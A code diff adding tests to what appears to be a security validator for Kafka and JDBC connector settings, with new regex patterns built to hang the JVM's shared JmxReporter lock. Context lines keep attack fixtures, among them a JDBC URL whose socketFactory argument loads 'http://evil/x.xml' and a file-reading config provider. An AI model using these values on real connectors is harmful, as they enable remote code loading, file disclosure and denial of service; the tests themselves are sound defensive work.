@@ -55,6 +55,21 @@ JAVAS = (
     ("config.providers", "file"),
     ("config.providers.file.class", "org.apache.kafka.common.config.provider.FileConfigProvider"),
 )
+SLOW = (
+    r".*(a|aa)+\1X",
+    "(.*)x",
+    ".*.*.*x",
+    "a.*b.*c",
+    r"\.*\.*\.*\.*x",
+    "[a-z]*x*",
+    "a+",
+    "a{9}",
+    "a?" * 100,
+    r"\Qx",
+    "a" * 400,
+    "|".join("abcdefghijk"),
+)
+QUICK = ("", ".*", r"kafka\.consumer:.*|kafka\.producer:.*", ".*type=app-info.*", "kafka.consumer:type=app-info,client-id=a")
 OF_CLIENTS = ("partitioner.class", "key.serializer", "value.deserializer", "partition.assignment.strategy")
 JDBC = (
     ("jdbc:postgresql://h/d?socketFactory=org.springframework.X&socketFactoryArg=http://evil/x.xml", "socketfactory"),
@@ -108,6 +123,17 @@ def test_what_makes_a_java_client_load_a_class(prefix: str, name: str, value: st
     assert [danger.part for danger in dangers(prefix + name, value)] == [name]
     assert list(dangers(f"consumer.override.{name}", value)) == [], "librdkafka loads no class"
     assert list(dangers(prefix + name, "")) == []
+
+
+@pytest.mark.parametrize("prefix", ["", *PREFIXES])
+@pytest.mark.parametrize("name", [f"metrics.jmx.{end}" for end in ("include", "exclude", "whitelist", "blacklist")])
+def test_a_pattern_that_kafka_tries_while_all_clients_of_the_jvm_wait(prefix: str, name: str) -> None:
+    """JmxReporter's lock is one for all. A pattern that never ends kept all connectors of a host from making clients."""
+    for pattern in SLOW:
+        assert [danger.part for danger in dangers(prefix + name, pattern)] == [name]
+        assert list(dangers(f"consumer.override.{name}", pattern)) == [], "librdkafka has no beans"
+    for pattern in QUICK:
+        assert list(dangers(prefix + name, pattern)) == []
 
 
 @pytest.mark.parametrize("name", OF_CLIENTS)
